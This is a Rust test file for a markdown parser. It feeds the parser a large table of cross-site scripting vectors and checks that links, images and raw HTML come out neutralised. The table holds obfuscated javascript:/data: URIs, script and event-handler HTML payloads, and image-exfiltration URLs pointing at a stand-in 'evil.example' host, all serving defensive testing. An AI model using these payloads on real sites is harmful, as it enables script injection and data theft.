//! Hostile model output: whatever the markdown, no link or image in the tree may carry a URL
//! other than absolute http(s) (and mailto for links), and raw HTML only ever appears as text
//! nodes. Each vector is checked through `parse` and streamed through `StreamingDoc` split at
//! every character.

use confab_core::link::{host_of, safe_image};
use confab_core::markdown::{parse, Block, Inline, StreamingDoc};

/// Every link href and image src in the blocks, and every raw HTML text.
#[derive(Default, Debug)]
struct Found {
    hrefs: Vec<Option<String>>,
    srcs: Vec<Option<String>>,
    html: Vec<String>,
}

fn walk<'a>(blocks: impl IntoIterator<Item = &'a Block>) -> Found {
    let mut found = Found::default();
    let mut blocks: Vec<&Block> = blocks.into_iter().collect();
    let mut inlines: Vec<&Inline> = Vec::new();
    while let Some(b) = blocks.pop() {
        match b {
            Block::Paragraph(i) | Block::Heading { inlines: i, .. } => inlines.extend(i),
            Block::BlockQuote(c) => blocks.extend(c),
            Block::List { items, .. } => items.iter().for_each(|it| blocks.extend(&it.blocks)),
            Block::Table { head, rows, .. } => {
                head.iter()
                    .chain(rows.iter().flatten())
                    .for_each(|c| inlines.extend(c));
            }
            Block::Html(h) => found.html.push(h.clone()),
            Block::CodeBlock { .. } | Block::Math { .. } | Block::Rule => {}
        }
    }
    while let Some(i) = inlines.pop() {
        match i {
            Inline::Emph(c) | Inline::Strong(c) | Inline::Strike(c) => inlines.extend(c),
            Inline::Link { href, children, .. } => {
                found.hrefs.push(href.clone());
                inlines.extend(children);
            }
            Inline::Image { src, .. } => found.srcs.push(src.clone()),
            Inline::Html(h) => found.html.push(h.clone()),
            _ => {}
        }
    }
    found
}

fn assert_safe(found: &Found, context: &str) {
    for href in found.hrefs.iter().flatten() {
        let lower = href.to_ascii_lowercase();
        assert!(
            lower.starts_with("http://")
                || lower.starts_with("https://")
                || lower.starts_with("mailto:"),
            "{context}: unsafe href {href:?}"
        );
        assert!(!href.contains(['\t', '\n', '\r']), "{context}: {href:?}");
    }
    for src in found.srcs.iter().flatten() {
        let lower = src.to_ascii_lowercase();
        assert!(
            lower.starts_with("http://") || lower.starts_with("https://"),
            "{context}: unsafe src {src:?}"
        );
        assert!(
            host_of(src).is_some(),
            "{context}: src without host {src:?}"
        );
    }
}

/// (name, markdown, expectation)
enum Expect {
    /// Every link in it is shown as text (href `None`), at least one link exists.
    LinkDropped,
    /// Every image has no src, at least one image exists.
    ImageDropped,
    /// The payload survives only as raw-HTML text nodes, containing this.
    HtmlText(&'static str),
    /// No link or image at all (e.g. an autolink that is not one).
    NoLinks,
    /// Only the general rule: nothing unsafe.
    Safe,
}

use Expect::*;

const VECTORS: &[(&str, &str, Expect)] = &[
    // Inline links with dangerous schemes.
    ("js link", "[x](javascript:alert(1))", LinkDropped),
    ("js upper", "[x](JAVASCRIPT:alert(1))", LinkDropped),
    ("js mixed case", "[x](JaVaScRiPt:alert(1))", LinkDropped),
    ("js leading space in <>", "[x](< javascript:alert(1)>)", LinkDropped),
    ("js tab split entity", "[x](java&#9;script:alert(1))", LinkDropped),
    ("js newline entity", "[x](java&#10;script:alert(1))", LinkDropped),
    ("js cr entity", "[x](java&#13;script:alert(1))", LinkDropped),
    ("js decimal entity", "[x](&#106;avascript:alert(1))", LinkDropped),
    ("js hex entity", "[x](&#x6A;avascript:alert(1))", LinkDropped),
    ("js named entity colon", "[x](javascript&colon;alert(1))", LinkDropped),
    ("js leading control entity", "[x](&#1;javascript:alert(1))", LinkDropped),
    ("js nbsp is not trimmed but not a scheme", "[x](&#160;javascript:alert(1))", LinkDropped),
    ("js percent encoded scheme", "[x](%6Aavascript:alert(1))", LinkDropped),
    ("js with title", "[x](javascript:alert(1) \"t\")", LinkDropped),
    ("js in angle dest with space", "[x](<javascript: alert(1)>)", LinkDropped),
    ("vbscript", "[x](vbscript:msgbox(1))", LinkDropped),
    ("data html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", LinkDropped),
    ("data upper", "[x](DATA:text/html,<script>alert(1)</script>)", LinkDropped),
    ("file", "[x](file:///etc/passwd)", LinkDropped),
    ("relative", "[x](/logout)", LinkDropped),
    ("fragment", "[x](#top)", LinkDropped),
    ("protocol relative link", "[x](//evil.example/x)", LinkDropped),
    ("backslash protocol relative", "[x](\\\\evil.example/x)", LinkDropped),
    ("scheme-less host", "[x](evil.example)", LinkDropped),
    ("blob", "[x](blob:https://a.example/1)", LinkDropped),
    ("filesystem", "[x](filesystem:https://a.example/t/x)", LinkDropped),
    ("intent", "[x](intent://scan/#Intent;scheme=zxing;end)", LinkDropped),
    // Reference links.
    ("js reference", "[x][r]\n\n[r]: javascript:alert(1)", LinkDropped),
    ("js collapsed ref", "[r][]\n\n[r]: JaVaScRiPt:alert(1)", LinkDropped),
    ("js shortcut ref entity", "[r]\n\n[r]: &#106;avascript:alert(1)", LinkDropped),
    ("data reference", "[x][d]\n\n[d]: data:text/html,<b>x</b>", LinkDropped),
    // Autolinks.
    ("js autolink", "<javascript:alert(1)>", LinkDropped),
    ("vbscript autolink", "<vbscript:msgbox(1)>", LinkDropped),
    ("data autolink", "<data:text/html,hi>", LinkDropped),
    ("autolink with space is not one", "<javascript :alert(1)>", Safe),
    // Images.
    ("js image", "![x](javascript:alert(1))", ImageDropped),
    ("data image", "![x](data:image/svg+xml;base64,PHN2Zz4=)", ImageDropped),
    ("svg data image", "![x](data:image/svg+xml,<svg onload=alert(1)>)", HtmlText("onload")),
    ("relative image", "![x](/avatar.png)", ImageDropped),
    ("mailto image", "![x](mailto:a@b.example)", ImageDropped),
    ("js image reference", "![x][i]\n\n[i]: javascript:alert(1)", ImageDropped),
    ("image exfiltration stays http", "![x](https://evil.example/?q=secret)", Safe),
    ("image protocol relative", "![x](//evil.example/p.png?q=secret)", Safe),
    ("image in link", "[![x](javascript:alert(1))](javascript:alert(2))", Safe),
    // Raw HTML of every kind: text only.
    ("script block", "<script>alert(1)</script>", HtmlText("<script>")),
    ("script inline", "hi <script>alert(1)</script>", HtmlText("<script>")),
    ("img onerror block", "<img src=x onerror=alert(1)>", HtmlText("onerror")),
    ("img onerror inline", "a <img src=x onerror=alert(1)> b", HtmlText("onerror")),
    ("svg onload", "<svg onload=alert(1)>", HtmlText("onload")),
    ("svg script", "<svg><script>alert(1)</script></svg>", HtmlText("<svg>")),
    ("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", HtmlText("srcdoc")),
    ("iframe js src", "<iframe src=\"javascript:alert(1)\">", HtmlText("iframe")),
    ("details ontoggle", "<details open ontoggle=alert(1)>", HtmlText("ontoggle")),
    ("a href js html", "<a href=\"javascript:alert(1)\">x</a>", HtmlText("javascript")),
    ("a href js inline html", "see <a href=javascript:alert(1)>x</a>", HtmlText("javascript")),
    ("style block", "<style>*{display:none}</style>", HtmlText("<style>")),
    ("object data", "<object data=\"javascript:alert(1)\">", HtmlText("object")),
    ("embed", "<embed src=javascript:alert(1)>", HtmlText("embed")),
    ("form action", "<form action=javascript:alert(1)><button>x</button></form>", HtmlText("form")),
    ("math href", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", HtmlText("math")),
    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", HtmlText("refresh")),
    ("base href", "<base href=\"https://evil.example/\">", HtmlText("base")),
    ("link import", "<link rel=import href=https://evil.example/x>", HtmlText("import")),
    ("html comment", "<!-- <script>alert(1)</script> -->", HtmlText("<!--")),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>", HtmlText("CDATA")),
    ("body onload", "<body onload=alert(1)>", HtmlText("onload")),
    ("input autofocus", "<input autofocus onfocus=alert(1)>", HtmlText("onfocus")),
    ("video source onerror", "<video><source onerror=\"alert(1)\">", HtmlText("onerror")),
    ("html in table cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", HtmlText("onerror")),
    ("html in list", "- <script>alert(1)</script>", HtmlText("<script>")),
    ("html in quote", "> <iframe src=//evil.example>", HtmlText("iframe")),
    // Links elsewhere.
    ("js link in table", "| a |\n|---|\n| [x](javascript:alert(1)) |", LinkDropped),
    ("js link in heading", "# [x](javascript:alert(1))", LinkDropped),
    ("js link in nested quote list", "> - > [x](javascript:alert(1))", LinkDropped),
    ("js link deep in emphasis", "***~~[x](javascript:alert(1))~~***", LinkDropped),
    ("js link in math text", "\\([x](javascript:alert(1))\\)", LinkDropped),
    ("js link past depth cap", ">>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>> [x](javascript:alert(1))", LinkDropped),
    (
        "js link past inline cap",
        "*a *a *a *a *a *a *a *a *a *a *a *a *a *a *a *a *a *a *a [x](javascript:alert(1)) a* a* a* a* a* a* a* a* a* a* a* a* a* a* a* a* a* a* a*",
        Safe,
    ),
    ("code span is not a link", "`[x](javascript:alert(1))`", NoLinks),
    ("fenced code is not html", "```html\n<script>alert(1)</script>\n```", NoLinks),
];

#[test]
fn there_are_enough_vectors() {
    assert!(VECTORS.len() >= 50, "{}", VECTORS.len());
}

#[test]
fn parse_never_yields_an_unsafe_url() {
    for (name, input, expect) in VECTORS {
        let blocks = parse(input);
        let found = walk(&blocks);
        assert_safe(&found, name);
        match expect {
            LinkDropped => {
                assert!(
                    !found.hrefs.is_empty(),
                    "{name}: expected a link: {blocks:?}"
                );
                assert!(
                    found.hrefs.iter().all(Option::is_none),
                    "{name}: {blocks:?}"
                );
            }
            ImageDropped => {
                assert!(
                    !found.srcs.is_empty(),
                    "{name}: expected an image: {blocks:?}"
                );
                assert!(found.srcs.iter().all(Option::is_none), "{name}: {blocks:?}");
            }
            HtmlText(needle) => {
                assert!(
                    found.html.iter().any(|h| h.contains(needle)),
                    "{name}: expected raw HTML text with {needle:?}: {blocks:?}"
                );
                assert!(found.hrefs.is_empty() && found.srcs.is_empty(), "{name}");
            }
            NoLinks => {
                assert!(found.hrefs.is_empty() && found.srcs.is_empty(), "{name}");
                assert!(found.html.is_empty(), "{name}: {blocks:?}");
            }
            Safe => {}
        }
    }
}

#[test]
fn exfiltration_images_are_http_with_a_host_to_ask_about() {
    let blocks = parse("![x](https://evil.example/?q=secret) ![y](//cdn.evil.example/p.png)");
    let found = walk(&blocks);
    assert_eq!(
        found.srcs,
        vec![
            Some("https://cdn.evil.example/p.png".to_string()),
            Some("https://evil.example/?q=secret".to_string()),
        ]
    );
    let hosts: Vec<_> = found.srcs.iter().flatten().map(|s| host_of(s)).collect();
    assert_eq!(
        hosts,
        vec![
            Some("cdn.evil.example".to_string()),
            Some("evil.example".to_string())
        ]
    );
    // The same URL a browser would see: userinfo tricks name the real host.
    let src = safe_image("https://trusted.example@evil.example/x.png").unwrap();
    assert_eq!(host_of(&src).as_deref(), Some("evil.example"));
}

#[test]
fn streamed_vectors_stay_safe_at_every_split() {
    for (name, input, _) in VECTORS {
        let cuts: Vec<usize> = (0..=input.len())
            .filter(|&i| input.is_char_boundary(i))
            .collect();
        for &cut in &cuts {
            let mut doc = StreamingDoc::new();
            doc.push(&input[..cut]);
            assert_safe(&walk(doc.blocks()), &format!("{name} @ {cut}"));
            doc.push(&input[cut..]);
            assert_safe(&walk(doc.blocks()), &format!("{name} @ {cut} (2)"));
            doc.finish();
            assert_eq!(doc.frozen(), parse(input).as_slice(), "{name} @ {cut}");
        }
        // And character by character.
        let mut doc = StreamingDoc::new();
        for c in input.chars() {
            doc.push(c.encode_utf8(&mut [0; 4]));
            assert_safe(&walk(doc.blocks()), name);
        }
    }
}

#[test]
fn payload_split_across_chunks_and_paragraphs_is_caught_after_joining() {
    // The scheme only forms once the chunks join; the definition arrives much later.
    let chunks = [
        "Intro paragraph.\n\n",
        "Click [here][p] or [there](java",
        "script:alert(1)).\n\n",
        "More text.\n\n",
        "[p]: jav",
        "ascript:alert(2)\n",
    ];
    let mut doc = StreamingDoc::new();
    for c in chunks {
        doc.push(c);
        assert_safe(&walk(doc.blocks()), c);
    }
    doc.finish();
    let found = walk(doc.blocks());
    assert_safe(&found, "finished");
    assert_eq!(found.hrefs, vec![None, None]);
}
